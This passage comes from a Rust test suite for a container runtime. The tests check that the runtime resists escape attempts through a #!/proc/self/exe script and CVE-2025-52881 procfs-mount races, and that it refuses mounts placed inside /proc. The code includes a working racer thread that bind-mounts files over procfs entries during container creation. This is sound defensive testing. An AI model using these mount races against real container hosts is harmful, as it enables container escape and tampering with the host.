        .stderr_mentions(&["refusing to run the runtime"]);
    let mut b = Bundle::new();
    let script = b.rootfs().join("evil.sh");
    fs::write(&script, "#!/proc/self/exe\necho escaped\n").unwrap();
    fs::set_permissions(&script, std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
    b.args(&["/evil.sh"]);
    let out = rt.run(&b);
    out.fails()
        .stderr_mentions(&["refusing to run the runtime"]);
    assert!(!out.out().contains("escaped"));
}

/// A procfs of the host's pid namespace mounted at a temp dir and made shared (its own peer
/// group), for binding as a container's /proc: the container's copy is then a slave of it, so
/// whatever the test mounts on it while a container is created reaches the container's /proc,
/// as a racing container with shared mounts does in CVE-2025-52881. Unmounted (with every
/// mount on it) and removed on drop.
struct SharedProc(PathBuf);

impl SharedProc {
    fn new() -> SharedProc {
        use nix::mount::{mount, MsFlags};
        let dir = std::env::temp_dir().join(unique("coracle-test-proc"));
        fs::create_dir_all(&dir).expect("test setup");
        let me = SharedProc(dir);
        let none = None::<&str>;
        mount(Some("proc"), &me.0, Some("proc"), MsFlags::empty(), none).expect("mount proc");
        for flag in [MsFlags::MS_PRIVATE, MsFlags::MS_SHARED] {
            mount(none, &me.0, none, flag, none).expect("propagation of the test proc");
        }
        me
    }
}

impl Drop for SharedProc {
    fn drop(&mut self) {
        let _ = nix::mount::umount2(&self.0, nix::mount::MntFlags::MNT_DETACH);
        let _ = fs::remove_dir(&self.0);
    }
}

/// The config's /proc mount replaced by a bind of `source` (`bind` or `rbind`).
fn bind_proc(b: &mut Bundle, source: &Path, bind: &str) {
    let mounts = b.config["mounts"].as_array_mut().expect("mounts");
    for m in mounts.iter_mut() {
        if m["destination"] == "/proc" {
            *m = json!({"destination": "/proc", "type": "bind",
                        "source": source.to_str().expect("utf-8"), "options": [bind]});
        }
    }
}

/// `kernel.<name>` (hostname, domainname) in the UTS namespace of `pid`, read through the
/// host's /proc by a process that joined that namespace.
fn uts_of(pid: i64, name: &str) -> String {
    let out = Command::new("nsenter")
        .args(["-t", &pid.to_string(), "--uts", "cat"])
        .arg(format!("/proc/sys/kernel/{name}"))
        .output()
        .expect("nsenter");
    String::from_utf8_lossy(&out.stdout).trim().to_string()
}

/// Every descendant of `pid` (through /proc/PID/task/*/children).
fn descendants(pid: u32) -> Vec<u32> {
    let mut out = Vec::new();
    let mut todo = vec![pid];
    while let Some(p) = todo.pop() {
        let Ok(tasks) = fs::read_dir(format!("/proc/{p}/task")) else {
            continue;
        };
        for t in tasks.flatten() {
            let text = fs::read_to_string(t.path().join("children")).unwrap_or_default();
            for c in text
                .split_whitespace()
                .filter_map(|c| c.parse::<u32>().ok())
            {
                if !out.contains(&c) {
                    out.push(c);
                    todo.push(c);
                }
            }
        }
    }
    out
}

/// What the racer of [`cve_2025_52881_racing_mounts_never_redirect_proc_writes`] targets:
/// the pid of the `create` in progress (0: none, the racer unmounts everything and idles).
struct RaceTarget {
    create_pid: std::sync::atomic::AtomicU32,
    /// Bumped by the racer each time it is idle with nothing mounted.
    idle_rounds: std::sync::atomic::AtomicU64,
    stop: std::sync::atomic::AtomicBool,
    /// Mounts made (how often the attack was in place).
    mounts: std::sync::atomic::AtomicU64,
}

/// Stops the racer when dropped (also when an assertion fails while it runs).
struct StopRacer<'a>(&'a RaceTarget);

impl Drop for StopRacer<'_> {
    fn drop(&mut self) {
        self.0.stop.store(true, std::sync::atomic::Ordering::SeqCst);
    }
}

/// The racer: while a `create` runs, bind-mounts `canary` (a host temp file) over
/// `<proc>/sys/kernel/domainname` and over `<proc>/PID/oom_score_adj` of every process the
/// create spawned, unmounts, and again, in a tight loop. `proc` is the shared procfs the
/// container's /proc is a slave of, so each mount lands in the container's /proc too.
fn race_proc_mounts(proc: &Path, canary: &Path, t: &RaceTarget) {
    use nix::mount::{mount, umount2, MntFlags, MsFlags};
    use std::sync::atomic::Ordering::SeqCst;
    let none = None::<&str>;
    let mut mounted: Vec<PathBuf> = Vec::new();
    while !t.stop.load(SeqCst) {
        let pid = t.create_pid.load(SeqCst);
        if pid == 0 {
            t.idle_rounds.fetch_add(1, SeqCst);
            thread::sleep(Duration::from_micros(200));
            continue;
        }
        let mut targets = vec![proc.join("sys/kernel/domainname")];
        targets.extend(
            descendants(pid)
                .into_iter()
                .map(|p| proc.join(format!("{p}/oom_score_adj"))),
        );
        for target in targets {
            if mount(Some(canary), &target, none, MsFlags::MS_BIND, none).is_ok() {
                t.mounts.fetch_add(1, SeqCst);
                mounted.push(target);
            }
        }
        thread::sleep(Duration::from_micros(300));
        for target in mounted.drain(..) {
            let _ = umount2(&target, MntFlags::MNT_DETACH);
        }
    }
}

/// CVE-2025-52881, the race: the container's /proc is a slave of a shared procfs on the host
/// (a bind of it), and while containers with a sysctl and an oomScoreAdj are created, the host
/// keeps bind-mounting a canary file over the sysctl's file and over each new process's
/// oom_score_adj in that procfs, so the mounts appear in the container's /proc at random
/// moments. The canary is never written; each create either succeeds with the configured
/// domain name and OOM score, or fails with a clear error; nothing is left behind.
#[test]
fn cve_2025_52881_racing_mounts_never_redirect_proc_writes() {
    use std::sync::atomic::Ordering::SeqCst;
    let proc = SharedProc::new();
    let canary_dir = TempDir::new("coracle-test-52881-canary");
    let canary = canary_dir.0.join("canary");
    fs::write(&canary, "CANARY-UNTOUCHED\n").unwrap();
    let mut b = Bundle::new();
    bind_proc(&mut b, &proc.0, "bind");
    b.config["linux"]["sysctl"] = json!({"kernel.domainname": "coracle-race"});
    b.config["process"]["oomScoreAdj"] = json!(123);
    b.write();
    let rt = Runtime::new();
    let target = RaceTarget {
        create_pid: 0.into(),
        idle_rounds: 0.into(),
        stop: false.into(),
        mounts: 0.into(),
    };
    let (mut created, mut refused) = (0, 0);
    thread::scope(|s| {
        s.spawn(|| race_proc_mounts(&proc.0, &canary, &target));
        let _stop = StopRacer(&target);
        let start = Instant::now();
        for _ in 0..50 {
            if start.elapsed() > Duration::from_secs(20) {
                break;
            }
            let id = rt.new_id();
            rt.track(&id);
            let running = rt.spawn(&["create", "--bundle", b.path_str(), &id]);
            target.create_pid.store(running.pid(), SeqCst);
            let out = running.wait();
            target.create_pid.store(0, SeqCst);
            // Wait until the racer has unmounted everything.
            let seen = target.idle_rounds.load(SeqCst);
            while target.idle_rounds.load(SeqCst) < seen + 2 && !target.stop.load(SeqCst) {
                thread::sleep(Duration::from_micros(100));
            }
            assert!(!out.timed_out, "\n{out}");
            let written = fs::read_to_string(&canary).unwrap_or_default();
            assert_eq!(
                written, "CANARY-UNTOUCHED\n",
                "a write to /proc landed on the canary mounted over it:\n{out}"
            );
            if out.success() {
                created += 1;
                let pid = rt.init_pid(&id);
                let oom = fs::read_to_string(format!("/proc/{pid}/oom_score_adj")).unwrap();
                assert_eq!(oom.trim(), "123", "\n{out}");
                assert_eq!(uts_of(pid, "domainname"), "coracle-race", "\n{out}");
                rt.delete_force(&id).ok();
            } else {
                refused += 1;
                out.stderr_mentions(&["proc", "sysctl", "oom"]);
            }
            assert!(!rt.state_dir_exists(&id), "{id} left behind:\n{out}");
        }
    });
    eprintln!(
        "52881 race: {created} created, {refused} refused, {} canary mounts",
        target.mounts.load(SeqCst)
    );
    assert!(target.mounts.load(SeqCst) > 0, "the racer never mounted");
    assert!(created + refused > 0);
    assert_eq!(
        fs::read_to_string(&canary).unwrap(),
        "CANARY-UNTOUCHED\n",
        "the canary was written"
    );
    assert!(host_mounts_mentioning(&canary).is_empty());
    assert!(host_mounts_mentioning(&b.rootfs()).is_empty());
}

/// CVE-2025-52881, static form with a real procfs file: the container's /proc is a recursive
/// bind of a procfs on which the host bound `sys/kernel/hostname` over `sys/kernel/domainname`
/// (a check that the file written is "on procfs" passes). The kernel.domainname sysctl must set
/// the domain name, never the host name through the planted mount (or create refuses).
#[test]
fn cve_2025_52881_sysctl_write_not_redirected_to_another_proc_file() {
    use nix::mount::{mount, MsFlags};
    let proc = SharedProc::new();
    let none = None::<&str>;
    mount(
        Some(&proc.0.join("sys/kernel/hostname")),
        &proc.0.join("sys/kernel/domainname"),
        none,
        MsFlags::MS_BIND,
        none,
    )
    .expect("bind hostname over domainname");
    let mut b = Bundle::new();
    bind_proc(&mut b, &proc.0, "rbind");
    b.config["linux"]["sysctl"] = json!({"kernel.domainname": "coracle-test-dom"});
    let rt = Runtime::new();
    let id = rt.new_id();
    let out = rt.create(&id, &b);
    eprintln!(
        "sysctl under a planted procfs mount: exit {:?}: {}",
        out.code,
        out.stderr.trim()
    );
    assert!(!out.timed_out, "\n{out}");
    if out.success() {
        let pid = rt.init_pid(&id);
        let (host, domain) = (uts_of(pid, "hostname"), uts_of(pid, "domainname"));
        rt.delete_force(&id).ok();
        assert_eq!(
            host, "coracle",
            "the sysctl was redirected to hostname:\n{out}"
        );
        assert_eq!(domain, "coracle-test-dom", "\n{out}");
    } else {
        out.stderr_mentions(&["proc", "sysctl"]);
        assert!(!rt.state_dir_exists(&id), "\n{out}");
    }
}

/// A config mount inside /proc is refused, naming the mount, whether its destination says
/// so (`/proc/sys/kernel`) or reaches it through a symlink in the rootfs (`/k` ->
/// `/proc/sys/kernel`, after /proc is mounted); so is a tmpfs on /proc itself. Nothing is left.
/// (runc 1.1 checks bind mounts only: the tmpfs cases are coracle's.)
#[test]
fn mounts_inside_proc_are_refused() {
    let host = host_dir_with_marker("coracle-test-procdest");
    let host_src = host.0.to_str().unwrap();
    let cases: [(&str, Option<&str>, &str); 5] = [
        ("/proc/sys/kernel", None, "bind"),
        ("/k", Some("/proc/sys/kernel"), "bind"),
        ("/proc/sys/kernel", None, "tmpfs"),
        ("/k", Some("/proc/sys/kernel"), "tmpfs"),
        ("/proc", None, "tmpfs"),
    ];
    for (dest, link, kind) in cases {
        if kind == "tmpfs" && coracle_conformance::is_runc() {
            continue;
        }
        let mut b = Bundle::new();
        if let Some(target) = link {
            symlink(target, b.rootfs().join(dest.trim_start_matches('/'))).unwrap();
        }
        if kind == "bind" {
            b.mount(dest, "bind", host_src, &["bind"]);
        } else {
            b.mount(dest, "tmpfs", "tmpfs", &["size=1m"]);
        }
        if dest == "/proc" {
            // Instead of the proc mount, not on top of it.
            let mounts = b.config["mounts"].as_array_mut().unwrap();
            mounts.retain(|m| m["type"] != "proc");
        }
        let index = b.config["mounts"].as_array().unwrap().len() - 1;
        let rt = Runtime::new();
        let id = rt.new_id();
        let out = rt.create(&id, &b);
        out.fails().stderr_mentions(&[
            "inside /proc",
            "not of type proc",
            "may be mounted on /proc",
        ]);
        if !coracle_conformance::is_runc() {
            out.stderr_mentions(&[&format!("mounts[{index}] ({dest})")]);
        }
        assert!(
            !rt.state_dir_exists(&id),
            "{dest}: {id} left behind:\n{out}"
        );
        assert!(host_mounts_mentioning(&b.rootfs()).is_empty(), "\n{out}");
        assert!(host_mounts_mentioning(&host.0).is_empty(), "\n{out}");
    }
}
